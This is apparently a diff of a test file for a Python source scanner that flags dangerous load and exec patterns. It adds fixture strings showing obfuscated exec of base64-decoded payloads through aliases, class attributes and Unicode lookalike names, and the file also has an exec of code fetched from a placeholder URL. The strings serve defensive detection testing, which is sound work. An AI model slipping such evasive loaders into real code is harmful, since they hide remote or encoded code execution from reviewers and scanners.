@@ -85,6 +85,10 @@ EXECS = [
     "import marshal\nexec(marshal.loads(D))\n",
     "from urllib.request import urlopen as u\nexec(u('http://x').read())\n",
     "import base64\ndef f(eval):\n    eval(base64.b64decode(S))\n",
+    "import base64\nimport eval as e\ne(base64.b64decode(S))\n",
+    "import base64\nfrom builtins import eval as e\ne(base64.b64decode(S))\n",
+    "import base64\nclass A:\n    run = exec\n    run(base64.b64decode(S))\n",
+    "import base64\nexec(model.eval(base64.b64decode(S)))\n",
     "import base64\nexec(compile(base64.b64decode(S), 'x', 'exec'))\n",
     "import base64\n\uff45\uff58\uff45\uff43("
     "base64.\uff42\uff16\uff14\uff44\uff45\uff43\uff4f\uff44\uff45(S))\n",
@@ -132,19 +136,35 @@ def test_setup_py_counts_every_scope_in_the_filter_too() -> None:
 
 
 @pytest.mark.parametrize(
-    "src",
+    ("src", "rule"),
     [
         # a class defining a load method only stores the name ``load``
-        "import torch\nclass Op:\n    def load(self, x):\n        return torch.ops.aten.load(x)\n",
+        (
+            "import torch\nclass Op:\n    def load(self, x):\n        return torch.ops.load(x)\n",
+            "load",
+        ),
         # attribute reads that are calls never alias; a helper is called by a plain name
-        "import json, torch\ndef read(p):\n    return json.loads(p)\nx = torch.ones(1)\n",
-        "import json, torch\nclass A:\n    def get(self):\n        return json.loads(S)\n"
-        "V = dict().get('a')\n",
+        ("import json, torch\ndef read(p):\n    return json.loads(p)\nx = torch.ones(1)\n", "load"),
+        (
+            "import json, torch\nclass A:\n    def get(self):\n        return json.loads(S)\n"
+            "V = dict().get('a')\n",
+            "load",
+        ),
+        # sink words only as attributes: no call can resolve to a builtin sink
+        (
+            "import base64, re\nR = re.compile(base64.b64decode(S))\nm.eval(base64.b64decode(S))\n",
+            "exec",
+        ),
+        (
+            "import requests\nclass M:\n    def eval(self):\n"
+            "        return self.exec(requests.get(U))\n",
+            "exec",
+        ),
     ],
 )
-def test_names_that_cannot_load_are_not_parsed(src: str) -> None:
-    code = compile(src, "m.py", "exec")
-    assert not pysource._code_names(code, False).may_load()
+def test_names_that_cannot_match_are_not_parsed(src: str, rule: str) -> None:
+    names = pysource._code_names(compile(src, "m.py", "exec"), False)
+    assert not (names.may_load() if rule == "load" else names.may_exec())
     assert filtered(src) == unfiltered(src) == []
 
 
@@ -196,7 +216,7 @@ def _reference(co: CodeType) -> pysource._Reads:
         if ins.opcode in dis.hasname and not name.startswith(("STORE_", "DELETE_")):
             parts = set(str(ins.argval).split("."))
             reads |= parts
-            if not ("ATTR" in name or name.startswith("IMPORT_") or name == "LOAD_METHOD"):
+            if not ("ATTR" in name or name == "IMPORT_FROM" or name == "LOAD_METHOD"):
                 plain.add(str(ins.argval))
             pending, copied = parts, False
             continue
